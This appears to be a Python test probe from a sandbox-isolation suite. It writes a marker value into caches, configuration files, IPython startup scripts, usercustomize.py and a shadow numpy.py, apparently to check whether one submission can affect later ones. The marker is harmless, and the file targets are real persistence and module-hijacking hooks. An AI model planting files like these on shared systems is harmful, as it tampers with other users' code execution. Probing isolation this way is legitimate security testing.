"""Leaves files that later submissions would read: caches, configurations, start-up scripts.

gain: neighbour
succeeds without: jail
"""

# %%
import os

home = os.path.expanduser("~")
poison = "3"
for path in (
    HOST["cache"],
    "/tmp/cache.txt",
    "/dev/shm/cache.txt",
    f"{home}/.ipython/profile_default/startup/00.py",
    f"{home}/.keras/keras.json",
    f"{home}/.config/matplotlib/matplotlibrc",
    f"{home}/.local/lib/python3.11/site-packages/usercustomize.py",
    "/room/work/numpy.py",
):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as file:
            file.write(poison)
    except OSError:
        pass
